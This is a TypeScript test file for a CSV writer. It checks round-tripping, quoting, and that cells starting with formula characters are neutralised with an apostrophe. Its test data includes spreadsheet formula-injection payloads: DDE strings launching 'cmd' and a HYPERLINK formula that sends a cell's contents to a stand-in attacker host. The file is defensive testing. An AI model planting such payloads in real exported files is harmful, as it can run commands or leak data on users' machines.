import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../../../tools/proofs/test/read-csv.ts';
import { csvWriter, toCsv } from './csv.ts';

/** The texts between commas, semicolons, tabs and line ends outside quotes, each without its opening quote. */
const splitCells = (text: string): string[] => {
  const cells = [''];
  let isQuoted = false;
  for (const character of text) {
    if (character === '"') isQuoted = !isQuoted;
    if (!isQuoted && /[,;\t\r\n]/.test(character)) cells.push('');
    else cells[cells.length - 1] += character;
  }
  return cells.map((cell) => cell.replace(/^"/, ''));
};

const FORMULA = /^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;
const SKIPPED = /^[\t\r\n]/;
/** The text that a reader gets for a cell. */
const guarded = (cell: string): string => (FORMULA.test(cell) || SKIPPED.test(cell) ? `'${cell}` : cell);

/** The cases of csv-spectrum: tables that readers of CSV often get wrong. */
const SPECTRUM: Readonly<Record<string, string[][]>> = {
  comma_in_quotes: [
    ['first', 'last', 'address', 'city', 'zip'],
    ['John', 'Doe', '120 any st.', 'Anytown, WW', '08123'],
  ],
  empty: [
    ['a', 'b', 'c'],
    ['1', '', ''],
    ['2', '3', '4'],
  ],
  escaped_quotes: [
    ['a', 'b'],
    ['1', 'ha "ha" ha'],
    ['3', '4'],
  ],
  json: [
    ['key', 'val'],
    ['1', '{"type": "Point", "coordinates": [102.0, 0.5]}'],
  ],
  location_coordinates: [
    ['Contact Phone Number', 'Location Coordinates', 'Cities', 'Counties'],
    ['2035961000', '37°36\'37.8"N 121°2\'17.9"W', 'Apple', 'Orange'],
  ],
  newlines: [
    ['a', 'b', 'c'],
    ['1', '2', '3'],
    ['Once upon \na time', '5', '6'],
    ['7', '8', '9'],
  ],
  newlines_crlf: [
    ['a', 'b', 'c'],
    ['Once upon \r\na time', '5', '6'],
  ],
  newlines_cr: [
    ['a', 'b', 'c'],
    ['Once upon \ra time', '5', '6'],
  ],
  quotes_and_newlines: [
    ['a', 'b'],
    ['1', 'ha \n"ha" \nha'],
    ['3', '4'],
  ],
  simple: [
    ['a', 'b', 'c'],
    ['1', '2', '3'],
  ],
  utf8: [
    ['a', 'b', 'c'],
    ['1', '2', '3'],
    ['4', '5', 'ʤ'],
  ],
};

/** Texts that spreadsheets are known to run as formulas or to convert to numbers. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\u001f-1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '=1,+1;-1',
  '-6',
];

const cells = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.string({
    unit: fc.constantFrom(...Array.from('=+-@＝"\'`,;\t\r\n |aé'), '\u00a0', '\ufeff', '\u200b', '\u0085', '\u2028'),
  }),
  fc.constantFrom(...FORMULAS, 'ill\r=cmd|1', 'a;=1', 'a\t=1', ''),
);
const tables = fc
  .integer({ min: 1, max: 4 })
  .chain((width) => fc.array(fc.array(cells, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }));

describe('Writing a table as CSV', () => {
  it.each(Object.entries(SPECTRUM))('writes a table that a reader reads back unchanged: %s', (_name, table) => {
    expect(readCsv(toCsv(table))).toEqual(table);
  });

  it('writes any text so that it is read back unchanged, except for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(tables, (table) => {
        expect(readCsv(toCsv(table))).toEqual(table.map((row) => row.map(guarded)));
      }),
      { numRuns: 1_000 },
    );
  });

  it('writes no cell that begins with a formula, also for readers that split at semicolons or tabs', () => {
    fc.assert(
      fc.property(tables, (table) => {
        expect(splitCells(toCsv(table)).filter((cell) => FORMULA.test(cell))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it.each(FORMULAS)('puts an apostrophe before %j', (formula) => {
    expect(readCsv(toCsv([['x', formula]]))).toEqual([['x', `'${formula}`]]);
  });

  it.each([
    ['ill\r=cmd', '"ill\r=cmd"'],
    ['a;=1', '"a;=1"'],
    ['a\t=1', '"a\t=1"'],
    ['a,=1', '"a,=1"'],
    ['a\n=1', '"a\n=1"'],
    ['a"=1', '"a""=1"'],
    [' a', '" a"'],
    ['a ', '"a "'],
    ['a\u2028=1', '"a\u2028=1"'],
    ['a\u0085=1', '"a\u0085=1"'],
    ['1 - 1', '1 - 1'],
    ['a=b', 'a=b'],
  ])('quotes %j if a reader would split or trim it', (cell, written) => {
    expect(toCsv([[cell, 'x']])).toBe(`${written},x\r\n`);
  });

  it('writes negative numbers as numbers, and missing values as empty cells', () => {
    expect(toCsv([[-6, 0.5, true, null, undefined, '', { a: [1, 'x'] }]])).toBe(
      '-6,0.5,true,,,,"{""a"":[1,""x""]}"\r\n',
    );
  });

  it('writes a row with one empty cell as a row', () => {
    expect(toCsv([[''], ['a']])).toBe('""\r\na\r\n');
  });
});

describe('Writing records as CSV', () => {
  const write = csvWriter<{ name: string | null; hours: string | null }>({ name: 'text', hours: 'decimal' });
  const records = [
    { name: 'Ann', hours: '-6.00' },
    { name: '-6.00', hours: null },
  ];

  it('writes headings, and a byte-order mark on request, in the first part only', () => {
    const rows = "Ann,-6.00\r\n'-6.00,\r\n";
    expect(write(records, { isFirst: true })).toBe(`name,hours\r\n${rows}`);
    expect(write(records, { isFirst: true, bom: true })).toBe(`\ufeffname,hours\r\n${rows}`);
    expect(write(records, { isFirst: false, bom: true })).toBe(rows);
    expect(write([], { isFirst: true })).toBe('name,hours\r\n');
  });

  it('writes a decimal column as a number only if the value is one', () => {
    expect(write([{ name: 'x', hours: '=1' }], { isFirst: false })).toBe("x,'=1\r\n");
  });
});
